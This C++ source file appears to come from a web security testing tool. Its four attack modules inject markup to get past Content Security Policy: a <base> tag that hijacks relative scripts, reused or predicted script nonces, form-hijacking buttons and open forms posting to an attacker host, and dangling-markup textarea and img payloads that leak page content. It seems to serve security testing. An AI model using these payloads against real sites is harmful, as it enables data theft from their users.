// Injected markup that needs no script of its own to begin with:
//
//   xss-base      <base> turns the page's relative scripts into the attacker's (CSP base-uri)
//   xss-nonce     a script with the nonce of an earlier answer (a nonce is for one), or with the
//   next
//                 one where it can be foreseen
//   xss-form      a button or form that sends the page's own fields away (CSP form-action)
//   xss-dangling  an open quote or text area that swallows what follows (CSP img-src, form-action)
#include "core/attack/every_agent.h"
#include "core/attack/page_script.h"
#include "core/attack/session.h"
#include "core/attack/stored_text.h"
#include "core/attack/tags.h"

namespace parapet::attack {
namespace {

// The attacker's collecting address, or "" when he has no host.
std::string collecting_address(Target& target) {
    OwnHost* evil = foreign_host(target);
    if (evil == nullptr || target.victim() == nullptr) return {};
    evil->answer(evil->folder() + "c", {.status = 204});
    return address_on(*evil, "c");
}

class XssBase final : public Agent {
    void run(Target& target) override {
        std::string const address = collecting_address(target);
        if (address.empty()) return;
        OwnHost& evil = *foreign_host(target);
        StoredText text(target);
        std::size_t scripts = 0;
        for (std::string const& page : text.pages())
            for (Tag const& tag : tags_in(page)) {
                std::string const source = tag.attribute("src").value_or("");
                if (tag.name != "script" || source.empty() ||
                    source.find("//") != std::string::npos)
                    continue;
                ++scripts;
                std::string const path = source.substr(0, source.find('?'));
                evil.answer((path.starts_with('/') ? "" : "/") + path,
                            {.status = 200,
                             .headers = {{"content-type", "text/javascript"}},
                             .body = taking_script(target, address)});
            }
        target.note(std::to_string(scripts) + " scripts are named by relative addresses.");
        text.leave("<base href=" + in_quotes(address_on(evil, "")) + ">");
        victim_reads_and_loot_is_used(target);
    }
};

class XssNonce final : public Agent {
    void run(Target& target) override {
        std::string const address = collecting_address(target);
        if (address.empty()) return;
        StoredText text(target);
        std::vector<std::string> nonces;
        for (std::string const& page : text.pages())
            for (Tag const& tag : tags_in(page))
                if (auto const nonce = tag.attribute("nonce"); nonce && !nonce->empty())
                    if (nonces.empty() || nonces.back() != *nonce) nonces.push_back(*nonce);
        target.note(std::to_string(nonces.size()) + " nonces are seen in answers.");
        if (nonces.empty()) return;
        // Of those that were seen the first and the last, and the one that comes next.
        if (nonces.size() > 2) nonces.erase(nonces.begin() + 1, nonces.end() - 1);
        nonces.push_back(target.victim()->foreseen_nonce());
        std::string const script = taking_script(target, address);
        std::string scripts;
        for (std::string const& nonce : nonces)
            scripts += "<script nonce=" + in_quotes(nonce) + ">" + script + "</script>";
        text.leave(scripts);
        victim_reads_and_loot_is_used(target);
    }
};

class XssForm final : public Agent {
    void run(Target& target) override {
        std::string const address = collecting_address(target);
        if (address.empty()) return;
        StoredText text(target);
        std::string const away = in_quotes(address);
        std::vector<std::string> labels;
        std::string buttons;
        for (std::string const& page : text.pages())
            for (Tag const& tag : tags_in(page))
                if (auto const id = tag.attribute("id"); id && tag.name == "form") {
                    labels.push_back("Read more about " + random_word(target, 5));
                    buttons += "<button form=" + in_quotes(*id) + " formaction=" + away +
                               " formmethod=\"post\">" + labels.back() + "</button>";
                }
        if (!labels.empty()) text.leave(buttons);
        if (!victim_signs_in(target)) return;
        victim_does(target, routines_option(target, option::kDoes));
        for (std::string const& label : labels) click(target, label);
        // A form that stays open: the page's own form within it is none, and its fields are his.
        std::string const label = "Read more about " + random_word(target, 5);
        text.leave("<form method=\"post\" action=" + away + "><button>" + label + "</button>");
        reads_again(target);
        (void)target.victim()->clicks(label);
        try_loot(target, received_texts(target));
    }

    // Where the page with the buttons is gone he comes back to it.
    static void click(Target& target, std::string const& label) {
        if (target.victim()->clicks(label) == Outcome::Done) return;
        reads_again(target);
        (void)target.victim()->clicks(label);
    }

    static void reads_again(Target& target) {
        bool const has_other = !target.option(option::kAgain).empty();
        victim_does(target, routines_option(target, has_other ? option::kAgain : option::kDoes));
    }
};

class XssDangling final : public Agent {
    void run(Target& target) override {
        std::string const address = collecting_address(target);
        if (address.empty()) return;
        StoredText text(target);
        text.leave("<form method=\"post\" action=" + in_quotes(address) +
                   "><button>Read more</button><textarea name=\"t\">");
        victim_reads_and_loot_is_used(target);
        for (std::string_view quote : {"'", "\""}) {
            text.leave("<img src=" + std::string(quote) + address + "?");
            victim_reads_and_loot_is_used(target);
        }
    }
};

}  // namespace

std::unique_ptr<Agent> make_xss_base() { return std::make_unique<XssBase>(); }
std::unique_ptr<Agent> make_xss_nonce() { return std::make_unique<XssNonce>(); }
std::unique_ptr<Agent> make_xss_form() { return std::make_unique<XssForm>(); }
std::unique_ptr<Agent> make_xss_dangling() { return std::make_unique<XssDangling>(); }

}  // namespace parapet::attack
